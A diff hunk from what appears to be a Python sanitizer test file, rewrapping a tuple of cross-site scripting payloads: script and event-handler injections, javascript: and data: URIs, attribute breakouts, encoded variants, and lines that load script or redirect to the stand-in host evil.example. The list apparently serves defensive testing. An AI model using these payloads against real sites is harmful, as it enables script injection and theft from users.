@@ -5,7 +5,8 @@ from __future__ import annotations
 from html.parser import HTMLParser
 
 PAYLOADS = (
-    "<script>window.__pwn=1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>", "</script><script>window.__pwn=1</script>",
+    "<script>window.__pwn=1</script>", "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "</script><script>window.__pwn=1</script>",
     "<img src=x onerror=window.__pwn=1>", "<img src=x onerror='window.__pwn=1'>", '"><img src=x onerror=window.__pwn=1>',
     "'><img src=x onerror=window.__pwn=1>", '" onmouseover="window.__pwn=1', "' onmouseover='window.__pwn=1",
     '" autofocus onfocus=window.__pwn=1 x="', "<svg onload=window.__pwn=1>", "<svg/onload=window.__pwn=1//",
@@ -13,11 +14,13 @@ PAYLOADS = (
     "<iframe src=javascript:window.__pwn=1>", "<iframe srcdoc='<script>window.__pwn=1</script>'>",
     "<object data=javascript:window.__pwn=1>", "<embed src=javascript:window.__pwn=1>",
     "<a href=javascript:window.__pwn=1>x</a>", "javascript:window.__pwn=1", "JaVaScRiPt:window.__pwn=1",
-    "data:text/html,<script>window.__pwn=1</script>", "<body onload=window.__pwn=1>", "<details open ontoggle=window.__pwn=1>",
+    "data:text/html,<script>window.__pwn=1</script>", "<body onload=window.__pwn=1>",
+    "<details open ontoggle=window.__pwn=1>",
     "<video><source onerror=window.__pwn=1>", "<form action=//evil.example><button>x</button></form>",
     "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>*{display:none}</style>",
     "<link rel=stylesheet href=//evil.example/x.css>", "</title><script>window.__pwn=1</script>",
-    "</textarea><script>window.__pwn=1</script>", "<!--<script>window.__pwn=1</script>-->", "--><script>window.__pwn=1</script>",
+    "</textarea><script>window.__pwn=1</script>", "<!--<script>window.__pwn=1</script>-->",
+    "--><script>window.__pwn=1</script>",
     "{{7*7}}{% raw %}<b>", "${window.__pwn=1}", "\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e",
     "&lt;script&gt;window.__pwn=1&lt;/script&gt;", "<div hx-get=//evil.example hx-trigger=load>x</div>",
     "<template shadowrootmode=open><script>window.__pwn=1</script></template>", "\u2028<script>window.__pwn=1</script>",
